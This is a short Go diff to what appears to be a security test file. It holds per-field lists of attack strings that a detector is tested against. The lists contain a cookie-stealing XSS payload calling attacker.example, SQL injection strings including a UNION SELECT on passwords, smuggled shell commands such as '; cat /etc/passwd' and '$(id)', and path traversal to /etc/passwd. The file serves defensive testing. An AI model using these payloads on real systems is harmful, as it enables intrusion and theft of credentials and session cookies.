@@ -35,7 +35,7 @@ var inKind = map[string][]string{
 	},
 	"code":     {"<script>fetch('//attacker.example/?'+document.cookie)</script>", `<img src=x onerror="alert(1)">`},
 	"log":      {"<script>fetch('//attacker.example/?'+document.cookie)</script>", `<img src=x onerror="alert(1)">`},
-	"password": {"x' UNION SELECT password FROM users -- ", "; cat /etc/passwd", "<script>alert(1)</script>", "../../../../etc/passwd"},
+	"password": {"' or '1'='1", "1' OR 1=1-- -", "$(id)", "x' UNION SELECT password FROM users -- ", "; cat /etc/passwd", "<script>alert(1)</script>", "../../../../etc/passwd"},
 }
 
 func TestOtherAttacksAreFoundInTheVeryFieldsThatAreDeclared(t *testing.T) {
